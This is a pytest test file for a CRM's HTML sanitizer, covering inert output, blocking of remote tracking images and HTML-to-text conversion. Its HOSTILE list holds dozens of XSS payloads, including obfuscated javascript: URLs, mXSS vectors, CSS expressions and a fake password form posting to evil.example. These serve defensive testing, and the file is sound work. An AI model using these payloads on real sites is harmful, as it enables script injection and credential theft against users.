"""Tests for ``server.crm.html``: hostile HTML made inert, remote images parked, text bodies."""
from __future__ import annotations

from html.parser import HTMLParser

import pytest

from server.crm.html import PLACEHOLDER_SRC, REMOTE_SRC_ATTRIBUTE, html_to_text, sanitize_html


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    return parser.elements


ACTIVE_TAGS = {"script", "style", "iframe", "frame", "object", "embed", "form", "input", "button",
               "meta", "base", "link", "svg", "math", "textarea", "select", "applet", "template"}


def assert_inert(html: str) -> None:
    """No active element, no event handler, no script URL, no CSS that runs or fetches."""
    for tag, attrs in elements(html):
        assert tag not in ACTIVE_TAGS, tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            text = (value or "").replace(" ", "").lower()
            assert "javascript:" not in text and "vbscript:" not in text, (tag, name, value)
            if name == "style":
                assert "expression" not in text and "url(" not in text
            if name in ("href", "src"):
                assert not text.startswith("data:") or text.startswith("data:image/"), value


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<body onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math href="javascript:alert(1)">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)">x</div>',
    '<p style="color: red; background-image: url(https://tracker.example/p.gif)">x</p>',
    '<style>@import "https://evil.example/x.css"; body{background:url(x)}</style>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/steal"><input name=password><button>Log in</button></form>',
    '<img src="x" style="x:expr/**/ession(alert(1))">',
    '<a href="https://ok.example" onclick="steal()" onmouseover="steal()">ok</a>',
    '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
    '<template><script>alert(1)</script></template>',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_html_is_inert(hostile):
    cleaned = sanitize_html(hostile)
    assert_inert(cleaned)
    assert "<script" not in cleaned.lower()


def test_script_and_style_content_is_dropped_not_shown():
    cleaned = sanitize_html("<p>Hi</p><script>var secret = 1;</script><style>p {color:red}</style>")
    assert cleaned == "<p>Hi</p>"


def test_form_text_survives_but_controls_go():
    cleaned = sanitize_html('<form action="https://x"><p>Please reply</p><input value=x></form>')
    assert cleaned == "<p>Please reply</p>"


def test_formatting_is_kept():
    html = ('<table cellpadding="4" width="600" bgcolor="#ffffff"><tr><td colspan="2" align="center">'
            '<font color="#333" face="Arial">Hi <b>Ann</b>, <i>thanks</i></font></td></tr></table>'
            '<p style="color: #333333; font-size: 14px; position: fixed">x</p><blockquote>q</blockquote>')
    cleaned = sanitize_html(html)
    for kept in ('cellpadding="4"', 'colspan="2"', '<font color="#333" face="Arial">', "<b>Ann</b>",
                 "<i>thanks</i>", "color:#333333", "font-size:14px", "<blockquote>q</blockquote>"):
        assert kept in cleaned
    assert "position" not in cleaned


def test_links_open_in_a_new_tab_without_referrer():
    (element,) = elements(sanitize_html('<a href="https://contoso.example/deal?a=1&b=2" target="_self">deal</a>'))
    assert element == ("a", {"href": "https://contoso.example/deal?a=1&b=2", "target": "_blank",
                             "rel": "noopener noreferrer"})


def test_mailto_and_tel_links_are_kept_relative_links_are_not():
    cleaned = sanitize_html('<a href="mailto:ann@x.example">m</a><a href="tel:+123">t</a>'
                            '<a href="/admin">r</a><a href="../x">r</a>')
    hrefs = [attrs.get("href") for _, attrs in elements(cleaned)]
    assert hrefs == ["mailto:ann@x.example", "tel:+123", None, None]


def test_remote_images_are_parked_by_default():
    cleaned = sanitize_html('<img src="https://tracker.example/p.gif?u=1&amp;m=2" alt="logo" width="1">'
                            '<img src="http://cdn.example/a.png">')
    (first, second) = elements(cleaned)
    assert first == ("img", {"src": PLACEHOLDER_SRC, REMOTE_SRC_ATTRIBUTE:
                             "https://tracker.example/p.gif?u=1&m=2", "alt": "logo", "width": "1"})
    assert second[1]["src"] == PLACEHOLDER_SRC
    assert second[1][REMOTE_SRC_ATTRIBUTE] == "http://cdn.example/a.png"
    assert "tracker.example" not in " ".join(str(a.get("src")) for _, a in elements(cleaned))


def test_remote_images_load_when_allowed():
    cleaned = sanitize_html('<img src="https://cdn.example/a.png">', block_remote_images=False)
    assert elements(cleaned) == [("img", {"src": "https://cdn.example/a.png"})]


def test_cid_and_inline_data_images_are_kept():
    cleaned = sanitize_html('<img src="cid:logo@org"><img src="data:image/png;base64,iVBORw0KGgo=">')
    assert [a["src"] for _, a in elements(cleaned)] == ["cid:logo@org", "data:image/png;base64,iVBORw0KGgo="]


def test_protocol_relative_and_srcset_images_do_not_load():
    cleaned = sanitize_html('<img src="//tracker.example/p.gif" srcset="https://t.example/a.png 2x">')
    assert elements(cleaned) == [("img", {})]


def test_alt_text_with_angle_brackets_does_not_confuse_the_image_rewrite():
    cleaned = sanitize_html('<img alt=\'a > src="https://x.example/y.png"\' src="cid:ok">')
    ((_, attrs),) = elements(cleaned)
    assert attrs["src"] == "cid:ok" and REMOTE_SRC_ATTRIBUTE not in attrs


@pytest.mark.parametrize("empty", ["", None])
def test_empty_input(empty):
    assert sanitize_html(empty) == ""
    assert html_to_text(empty) == ""


# --------------------------------------------------------------------------- html -> text


def test_html_to_text_is_readable():
    html = ("<html><head><title>Newsletter</title><style>p{color:red}</style></head><body>"
            "<h1>Hello&nbsp;Ann</h1><p>Your quote is <a href='https://x.example/q/1'>here</a> "
            "and   <b>valid</b>\n for 30 days.</p>"
            "<ul><li>one</li><li>two<ol><li>a</li><li>b</li></ol></li></ul>"
            "<blockquote><p>earlier</p><p>mail</p></blockquote>"
            "<table><tr><td>Total</td><td>42 &euro;</td></tr></table>"
            "line<br>break<hr><pre>  keep\n    spacing</pre><img alt='Logo' src='cid:x'>"
            "<script>alert(1)</script><a href='mailto:ann@x.example'>ann@x.example</a></body></html>")
    assert html_to_text(html) == (
        "Hello Ann\n\n"
        "Your quote is here <https://x.example/q/1> and valid for 30 days.\n\n"
        "- one\n- two\n  1. a\n  2. b\n\n"
        "> earlier\n>\n> mail\n\n"
        "Total 42 €\n\n"
        "line\nbreak\n\n"
        "--------------------\n\n"
        "  keep\n    spacing\n\n"
        "[Logo]ann@x.example"
    )


def test_html_to_text_does_not_repeat_a_link_that_is_its_own_text():
    assert html_to_text('<a href="https://x.example">https://x.example</a>') == "https://x.example"
    assert html_to_text('<a href="javascript:alert(1)">click</a>') == "click"


@pytest.mark.parametrize("broken", [
    "<p><b>unclosed", "<!bogus", "</>", "<a href=x", "<![CDATA[x]]>", "<p>a</div></p></span>b",
    "&#xD800; &bogus; &#99999999;", "<" * 100, "<li>orphan item</li></ul></ol>",
])
def test_html_to_text_survives_broken_markup(broken):
    assert isinstance(html_to_text(broken), str)
    assert isinstance(sanitize_html(broken), str)
